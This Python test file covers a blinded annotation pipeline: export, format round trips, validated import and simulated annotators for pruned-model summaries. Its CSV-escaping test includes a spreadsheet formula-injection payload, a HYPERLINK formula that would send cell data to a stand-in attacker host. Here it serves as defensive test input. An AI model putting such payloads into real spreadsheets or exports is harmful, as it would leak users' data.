"""Blinded annotation batches: export (sampling, A/B, assignment, no identity leaks), the three
formats' round trip, validated all-or-nothing import, replacement log, simulated annotators."""

from __future__ import annotations

import csv
import io
import json
import random
from collections import Counter
from pathlib import Path

import pytest

from annotation.batch import ANSWERS, QUESTIONS, BatchError, load_batch, load_key
from annotation.export import export_batches, stratified_sample
from annotation.formats import (FORMATS, FORMULA_STARTS, LABEL_STUDIO_CONFIG, file_name, read_answer_file,
                                write_annotator_file)
from annotation.importer import AnnotationImportError, import_answers, read_imports
from annotation.simulate import answer_batch
from harness import atomic
from harness.cli.main import main
from harness.hashing import content_key
from harness.records import CellInfo, GenerationRecord, ModelIdentity, PruneSpecInfo
from tasks import load_task

MODEL = "tinyllamax"
SPECS = [PruneSpecInfo(), PruneSpecInfo(method="wanda", sparsity=0.5),
         PruneSpecInfo(method="magnitude", sparsity=0.5, structure="2:4")]
TASK_SIZES = {"demo": 30, "second": 20}


def demo_documents() -> dict[str, dict[str, str]]:
    records = load_task("demo").records
    docs = {"demo": records[:30], "second": records[30:]}
    return {task: {r.id: r.document for r in recs} for task, recs in docs.items()}


def summary(article: str, spec: PruneSpecInfo, index: int) -> str:
    """Dense: the first two sentences; pruned: the first sentence, repeated on some documents."""
    sentences = [s.strip() for s in article.split(". ") if s.strip()]
    if spec.method == "dense":
        return ". ".join(sentences[:2])
    return " ".join([sentences[0]] * (1 + (index + len(spec.method)) % 3))


def make_run(root: Path, tasks=("demo", "second"), prompt="A") -> dict[tuple[str, str], str]:
    """A run directory with cells and full generation records; {(prune label, task): cell key}."""
    documents = demo_documents()
    keys = {}
    for task in tasks:
        dense_key = None
        for spec in SPECS:
            key = content_key({"m": MODEL, "p": spec.model_dump(), "t": task})
            keys[(spec.label, task)] = key
            info = CellInfo(key=key, model=MODEL, prune=spec, task=task, prompt=prompt,
                            baseline_key=None if spec.method == "dense" else dense_key)
            dense_key = dense_key or key
            atomic.write_json(root / "cells" / f"{key}.json", info)
            identity = ModelIdentity(name=MODEL, source=f"checkpoints/{MODEL}/{spec.label}",
                                     checkpoint_hash=content_key(spec.label))
            records = [GenerationRecord(doc_id=doc_id, prompt_id=prompt, prompt_hash="ph", text=summary(text, spec, i),
                                        output_token_ids=[1, 2], prompt_tokens=10, output_tokens=2,
                                        finish_reason="stop", truncated=False, backend="hf", model=identity,
                                        sampling={"temperature": 0.0})
                       for i, (doc_id, text) in enumerate(documents[task].items())]
            atomic.write_jsonl(root / "generations" / f"{key}.jsonl", records)
    return keys


@pytest.fixture
def run(tmp_path):
    keys = make_run(tmp_path)
    return tmp_path, keys


def export(root, fmt="csv", **kw):
    args = dict(n=10, annotators=["ann1", "ann2"], fmt=fmt, documents=demo_documents()) | kw
    return export_batches(root, **args)


def filled(batch, annotator, seed=0, comment="fine, \"really\"\nsecond line"):
    rng = random.Random(seed)
    return {item_id: {**{q: rng.choice(ANSWERS) for q in QUESTIONS}, "comment": comment}
            for item_id in batch.assignment[annotator]}


def write_answers(directory, annotator, fmt="csv", seed=0, out=None):
    batch = load_batch(directory)
    answers = filled(batch, annotator, seed)
    path = out or directory / "answers" / file_name(annotator, fmt)
    write_annotator_file(path, batch, annotator, fmt, answers)
    return path, answers


def snapshot(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() for p in sorted((root / "annotation").rglob("*"))
            if p.is_file() and "imports" in p.parts}


# --- export -------------------------------------------------------------------------------
@pytest.mark.parametrize("fmt", list(FORMATS))
def test_no_exported_annotator_file_names_a_system(run, fmt):
    root, keys = run
    batches = export(root, fmt)
    assert len(batches) == 2  # each pruned system against its dense baseline
    identifying = {MODEL, "dense", "wanda", "magnitude", "0.5", "50%", "2:4", "checkpoints", str(root)}
    identifying |= set(keys.values()) | {spec.label for spec in SPECS}
    for directory in batches:
        batch = load_batch(directory)
        files = sorted((directory / "export").iterdir())
        annotator_files = [p for p in files if p.name not in ("guidelines.md", LABEL_STUDIO_CONFIG)]
        assert len(annotator_files) == 2 and (fmt != "labelstudio" or any(p.name == LABEL_STUDIO_CONFIG for p in files))
        for path in files:
            text = path.read_text(encoding="utf-8-sig")
            leaks = [s for s in identifying if s.lower() in text.lower() or s.lower() in path.name.lower()]
            assert not leaks, f"{path.name} names {leaks}"
            assert batch.batch_id in text and batch.content_hash in text
        key = load_key(directory)  # the unblinding lives apart, and names the systems
        assert key.baseline == f"{MODEL}/dense@A" and key.system in {f"{MODEL}/wanda-0.5@A", f"{MODEL}/magnitude-2:4@A"}
        assert set(key.system_cells.values()) <= set(keys.values())
        assert "guidelines version: 1" in (directory / "export" / "guidelines.md").read_text().lower()
        assert batch.guidelines_version == "1"


def test_items_show_the_right_summaries_and_article(run):
    root, keys = run
    documents = demo_documents()
    directory = export(root, pairs=[("wanda-0.5", "dense")])
    assert len(directory) == 1
    batch, key = load_batch(directory[0]), load_key(directory[0])
    for item in batch.items:
        article = documents[item.task][item.doc_id]
        index = list(documents[item.task]).index(item.doc_id)
        mine, theirs = summary(article, SPECS[1], index), summary(article, SPECS[0], index)
        expected = (mine, theirs) if key.a_is[item.item_id] == "system" else (theirs, mine)
        assert (item.summary_a, item.summary_b) == expected and item.article == article


def test_sampling_is_stratified_seeded_and_ab_balanced(run):
    root, _ = run
    first = load_batch(export(root, n=20, pairs=[("wanda-0.5", "dense")])[0])
    assert Counter(item.task for item in first.items) == {"demo": 12, "second": 8}  # 30:20 of 20
    again = export(root, n=20, pairs=[("wanda-0.5", "dense")])[0]
    other = export(root, n=20, pairs=[("wanda-0.5", "dense")], seed=1)[0]
    a_is = load_key(again).a_is
    assert load_batch(again) == first and load_key(other).a_is != a_is
    assert Counter(a_is.values()) == {"system": 10, "baseline": 10}
    assert [i.doc_id for i in load_batch(other).items] != [i.doc_id for i in first.items]
    picks = stratified_sample({"x": list("abcdefg"), "y": list("hij")}, 5, seed=3)
    assert Counter(t for t, _ in picks) == {"x": 4, "y": 1}  # 3.5 -> 4 by larger remainder, 1.5 -> 1
    with pytest.raises(BatchError, match="share only 50"):
        export(root, n=51)
    with pytest.raises(BatchError, match="with itself"):
        export(root, pairs=[("dense", "dense")])
    with pytest.raises(BatchError, match="'sparsegpt-0.5' is no system of this run"):
        export(root, pairs=[("sparsegpt-0.5", "dense")])


@pytest.mark.parametrize("overlap, shared", [(1.0, 9), (0.5, 4), (0.0, 0)])
def test_assignment_rule(run, overlap, shared):
    root, _ = run
    batch = load_batch(export(root, n=9, annotators=["a", "b", "c"], overlap=overlap,
                              pairs=[("wanda-0.5", "dense")])[0])
    seen = Counter(i for ids in batch.assignment.values() for i in ids)
    assert set(seen) == batch.item_ids()
    assert sum(count == 3 for count in seen.values()) == shared
    assert all(count == 1 for count in seen.values() if count != 3)
    sizes = [len(ids) - shared for ids in batch.assignment.values()]
    assert max(sizes) - min(sizes) <= 1  # the unshared items are dealt evenly
    if overlap == 1.0:
        assert all(count >= 2 for count in seen.values())


@pytest.mark.parametrize("fmt", list(FORMATS))
def test_each_annotator_sees_the_shared_items_in_an_order_of_their_own(run, fmt):
    root, _ = run
    directory = export(root, fmt, n=20, overlap=1.0, pairs=[("wanda-0.5", "dense")])[0]
    batch = load_batch(directory)
    first, second = batch.assignment["ann1"], batch.assignment["ann2"]
    assert set(first) == set(second) == batch.item_ids() and len(first) == len(second) == 20
    assert first != second and sorted(first) not in (first, second)
    for annotator in batch.annotators:  # each file lists the items in its annotator's order
        rows = read_answer_file(directory / "export" / file_name(annotator, fmt)).rows
        assert [row.values["item_id"] for row in rows] == batch.assignment[annotator]
    again = load_batch(export(root, fmt, n=20, overlap=1.0, pairs=[("wanda-0.5", "dense")])[0])
    assert again.assignment == batch.assignment  # the seed reproduces the order
    other = load_batch(export(root, fmt, n=20, overlap=1.0, pairs=[("wanda-0.5", "dense")], seed=1)[0])
    assert other.assignment["ann1"] != sorted(other.assignment["ann1"])
    # answers written in the annotator's order import
    paths = [write_answers(directory, annotator, fmt)[0] for annotator in batch.annotators]
    assert [e.items for e in import_answers(root, paths).entries] == [20, 20]


# --- round trip ----------------------------------------------------------------------------
@pytest.mark.parametrize("fmt", list(FORMATS))
def test_round_trip_gives_back_the_same_answers(run, fmt):
    root, _ = run
    directory = export(root, fmt, pairs=[("wanda-0.5", "dense")], overlap=0.6)[0]
    written = {a: write_answers(directory, a, fmt, seed=i) for i, a in enumerate(("ann1", "ann2"))}
    result = import_answers(root, [path for path, _ in written.values()])
    assert [e.action for e in result.entries] == ["imported", "imported"]
    stored = read_imports(directory)
    for annotator, (_, answers) in written.items():
        got = {i: {**a.answers, "comment": a.comment} for i, a in stored[annotator].items.items()}
        assert got == answers and not stored[annotator].simulated


FORMULAS = ['=HYPERLINK("http://attacker.example/?q="&A1,"details")', "-5 degrees overnight", "+44 20 7946 0958",
            "@SUM(1+1)", "\tindented", "'quoted", "''twice", "'-already escaped",
            "carriage\rreturn inside", "windows\r\nline end"]  # and line breaks inside cells


def test_csv_cells_cannot_run_as_formulas_and_read_back_exactly(tmp_path):
    make_run(tmp_path)
    for number, path in enumerate(sorted((tmp_path / "generations").glob("*.jsonl"))):  # summaries
        records = [json.loads(line) for line in path.read_text().splitlines()]
        for index, record in enumerate(records):
            record["text"] = FORMULAS[(number + index) % len(FORMULAS)] + " " + record["text"]
        atomic.write_jsonl(path, records)
    directory = export(tmp_path, pairs=[("wanda-0.5", "dense")], n=18)[0]
    batch = load_batch(directory)
    comments = [c for c in FORMULAS if c.strip() == c]  # the importer strips comments
    paths, given = [], {}
    for annotator in batch.annotators:
        answers = filled(batch, annotator)
        for index, item_id in enumerate(answers):
            answers[item_id]["comment"] = comments[index % len(comments)]
        paths.append(directory / "answers" / f"{annotator}.csv")
        write_annotator_file(paths[-1], batch, annotator, "csv", answers)
        given[annotator] = answers
    # as a spreadsheet parses the file: no cell starts like a formula
    for path in [*paths, *(directory / "export").glob("*.csv")]:
        cells = [c for row in csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline=""))
                 for c in row]
        assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
        assert any(c.startswith("'=HYPERLINK(") for c in cells) and any(c.startswith("'-5 degrees") for c in cells)
    # and reading gives back the summaries, comments and answers as they were
    items = {item.item_id: item for item in batch.items}
    starts = {s.split(" ")[0] for i in items.values() for s in (i.summary_a, i.summary_b)}
    assert starts <= {f.split(" ")[0] for f in FORMULAS} and len(starts) >= 8
    assert any("\r" in s for s in starts)
    for path in paths:
        for row in read_answer_file(path).rows:
            item = items[row.values["item_id"]]
            assert (row.values["summary_a"], row.values["summary_b"]) == (item.summary_a, item.summary_b)
    import_answers(tmp_path, paths)
    for annotator, stored in read_imports(directory).items():
        got = {i: {**a.answers, "comment": a.comment} for i, a in stored.items.items()}
        assert got == given[annotator]


def test_label_studio_export_has_a_config_naming_every_question(run):
    root, _ = run
    directory = export(root, "labelstudio", pairs=[("wanda-0.5", "dense")])[0]
    config = (directory / "export" / LABEL_STUDIO_CONFIG).read_text()
    assert all(f'name="{q}"' in config for q in QUESTIONS) and config.count('<Choice value="tie"/>') == 4
    tasks = json.loads((directory / "export" / "ann1.labelstudio.json").read_text())
    assert {t["data"]["item_id"] for t in tasks} == set(load_batch(directory).assignment["ann1"])


# --- bad imports -----------------------------------------------------------------------------
def _edit_csv(path: Path, edit) -> Path:
    lines = path.read_text(encoding="utf-8-sig").split("\n")
    out = path.with_name("bad-" + path.name)
    out.write_text("\n".join(edit(lines)), encoding="utf-8")
    return out


def _replace_in_row(row: int, old: str, new: str):
    def edit(lines):
        lines[row] = lines[row].replace(old, new, 1)
        return lines
    return edit


@pytest.fixture
def one_line_batch(tmp_path):
    """A batch whose CSV rows fit on one line each (no newlines in texts), so lines = rows."""
    root = tmp_path
    make_run(root)
    directory = export(root, pairs=[("wanda-0.5", "dense")], n=6)[0]
    batch = load_batch(directory)
    paths = {}
    for annotator in batch.annotators:
        path = directory / "answers" / f"{annotator}.csv"
        write_annotator_file(path, batch, annotator, "csv", filled(batch, annotator, comment="ok"))
        paths[annotator] = path
    return root, directory, batch, paths


BAD_CSV = {
    "unknown item": (_replace_in_row(2, "item-0", "item-9"), r"line 3: item_id 'item-9\d+' is not an item of batch-"),
    "answer outside the set": (lambda lines: [lines[0], lines[1].rsplit(",", 5)[0] + ",maybe,A,B,tie,ok"] + lines[2:],
                               "line 2: q1_hallucination: 'maybe' is not one of A, B, tie"),
    "duplicate row": (lambda lines: lines[:3] + [lines[2]] + lines[3:], r"line 4: duplicate row for item 'item-\d+' \(first at line 3\)"),
    "wrong batch": (lambda lines: [lines[0]] + [l.replace("batch-", "batch-x", 1) for l in lines[1:]],
                    "line 2: batch_id 'batch-x.*' is not a batch of this run"),
    "wrong content hash": (lambda lines: [lines[0]] + [l.split(",", 2)[0] + ",0000000000000000," + l.split(",", 2)[2] if l else l for l in lines[1:]],
                           "line 2: batch_hash '0000000000000000' differs from this batch's content hash"),
    "missing column": (lambda lines: [c.rsplit(",", 2)[0] + "," + c.rsplit(",", 2)[2] if c else c for c in lines],
                       "line 1: missing column.* q4_alignment"),
    "truncated file": (lambda lines: lines[:4] + [lines[4][: len(lines[4]) // 2]], r"line 5: (\d+ fields where the header has 12 \(truncated|unparseable CSV)"),
    "missing rows": (lambda lines: lines[:2], r"end of file: incomplete: \d+ of 6 items assigned to 'ann1' have no row"),
}


@pytest.mark.parametrize("case", list(BAD_CSV))
def test_each_bad_import_is_rejected_naming_file_and_line_and_changes_nothing(one_line_batch, case):
    root, directory, _, paths = one_line_batch
    import_answers(root, [paths["ann1"]])
    before = snapshot(root)
    edit, message = BAD_CSV[case]
    bad = _edit_csv(paths["ann1"], edit)
    with pytest.raises(AnnotationImportError, match=message) as err:
        import_answers(root, [paths["ann2"], bad])  # ann2's good file is not stored either
    assert str(bad) in str(err.value) and "nothing was imported" in str(err.value)
    assert snapshot(root) == before and set(read_imports(directory)) == {"ann1"}


def test_every_problem_is_reported_at_once(one_line_batch):
    root, directory, batch, paths = one_line_batch
    bad = _edit_csv(paths["ann1"], lambda lines: [lines[0],
                                                  lines[1].replace("item-0", "item-9", 1),
                                                  lines[2].rsplit(",", 5)[0] + ",A,B,never,tie,ok"] + lines[3:])
    unknown = directory / "answers" / "mallory.csv"
    unknown.write_text(paths["ann2"].read_text(encoding="utf-8-sig").replace(",ann2,", ",mallory,"))
    with pytest.raises(AnnotationImportError) as err:
        import_answers(root, [bad, unknown])
    text = str(err.value)
    assert "line 2: item_id" in text and "line 3: q3_repetition: 'never'" in text
    assert "end of file: incomplete: 1 of 6" in text
    assert f"{unknown}: line 2: annotator 'mallory' is not an annotator" in text
    assert text.startswith("4 problem(s)")


@pytest.mark.parametrize("fmt", ["jsonl", "labelstudio"])
def test_truncated_json_formats_are_rejected(run, fmt):
    root, _ = run
    directory = export(root, fmt, pairs=[("wanda-0.5", "dense")], n=4)[0]
    path, _ = write_answers(directory, "ann1", fmt)
    text = path.read_text()
    path.write_text(text[: int(len(text) * 0.7)])
    with pytest.raises(AnnotationImportError, match=r"line \d+: not valid JSON .* may be truncated"):
        import_answers(root, [path])
    assert read_imports(directory) == {}


def test_reimport_is_idempotent_and_a_correction_replaces_and_is_logged(run):
    root, _ = run
    directory = export(root, "jsonl", pairs=[("wanda-0.5", "dense")], n=5)[0]
    path, answers = write_answers(directory, "ann1", "jsonl", seed=0)
    assert import_answers(root, [path]).entries[0].action == "imported"
    before = snapshot(root)
    assert import_answers(root, [path]).entries[0].action == "unchanged"
    assert snapshot(root) == before
    corrected, new_answers = write_answers(directory, "ann1", "jsonl", seed=7,
                                           out=directory / "answers" / "ann1-corrected.jsonl")
    assert new_answers != answers
    with pytest.raises(AnnotationImportError, match="also answered by"):
        import_answers(root, [path, corrected])  # two answer sets for one annotator in one import
    assert import_answers(root, [corrected]).entries[0].action == "replaced"
    stored = read_imports(directory)["ann1"]
    assert {i: a.answers for i, a in stored.items.items()} == {
        i: {q: v for q, v in a.items() if q != "comment"} for i, a in new_answers.items()}
    log = [json.loads(line) for line in (directory / "imports" / "log.jsonl").read_text().splitlines()]
    assert [e["action"] for e in log] == ["imported", "replaced"]
    assert log[1]["replaces"] == {"source": "ann1.jsonl", "answers_hash": log[0]["answers_hash"]}
    assert log[1]["source"] == "ann1-corrected.jsonl"


def test_simulated_answers_are_labelled_through_to_the_report(run):
    from analysis.agreement import compute_agreement, write_agreement
    from analysis.human_eval import report_section
    from analysis.sections import ReportContext

    root, _ = run
    (root / "study.yaml").write_text("analysis: {bootstrap: 100}\n")  # the section's resamples
    assert report_section(ReportContext.of(root)) is None
    directory = export(root, "labelstudio", pairs=[("wanda-0.5", "dense")], n=12)[0]
    paths = answer_batch(directory, seed=0)
    assert all('"simulated": "true"' in p.read_text() for p in paths)
    texts = [p.read_text() for p in paths]
    assert answer_batch(directory, seed=0) == paths and [p.read_text() for p in paths] == texts  # seeded
    import_answers(root, paths)
    assert all(s.simulated for s in read_imports(directory).values())
    result = compute_agreement(root, n_boot=50)
    assert result.simulated
    assert "simulated annotators" in json.loads(write_agreement(root, result).read_text())["note"]
    section = report_section(ReportContext.of(root))
    assert "simulated annotators" in section.title and "simulated annotators" in section.text
    # the simulated judges see the repeated sentences of the pruned summaries
    prefs = result.preferences.set_index("question")
    assert prefs.loc["q3_repetition", "system_worse"] > prefs.loc["q3_repetition", "baseline_worse"]


def make_cli_run(tmp_path: Path) -> Path:
    """``tmp_path/run``: a one-task run with the study.yaml the annotate commands read."""
    root = tmp_path / "run"
    make_run(root, tasks=("demo",))
    (tmp_path / "m").mkdir()
    (root / "study.yaml").write_text(f"name: s\nmodels: [{{name: {MODEL}, path: {tmp_path / 'm'}}}]\n"
                                     "tasks: [{name: demo}]\nscoring: {metrics: [rouge]}\n")
    return root


def test_cli_export_import_agreement(tmp_path, capsys):
    root = make_cli_run(tmp_path)
    assert main(["annotate", "export", str(root), "--n", "6", "--annotators", "x,y", "--format", "jsonl",
                 "--pair", "wanda-0.5,dense"]) == 0
    export_dir = Path(capsys.readouterr().out.strip())
    batch = load_batch(export_dir.parent)
    assert batch.items[0].article == demo_documents()["demo"][batch.items[0].doc_id]
    assert main(["annotate", "simulate", str(root), batch.batch_id]) == 0
    files = capsys.readouterr().out.split()
    assert main(["annotate", "import", str(root), *files]) == 0
    assert "imported 6 items of annotator x" in capsys.readouterr().out
    assert main(["annotate", "agreement", str(root), "--bootstrap", "100"]) == 0
    out = capsys.readouterr().out
    assert "simulated annotators" in out and "cohen_kappa" in out and "krippendorff_alpha" in out
    assert main(["annotate", "import", str(root), str(root / "nope.csv")]) == 2
    assert "nope.csv: cannot read" in capsys.readouterr().err
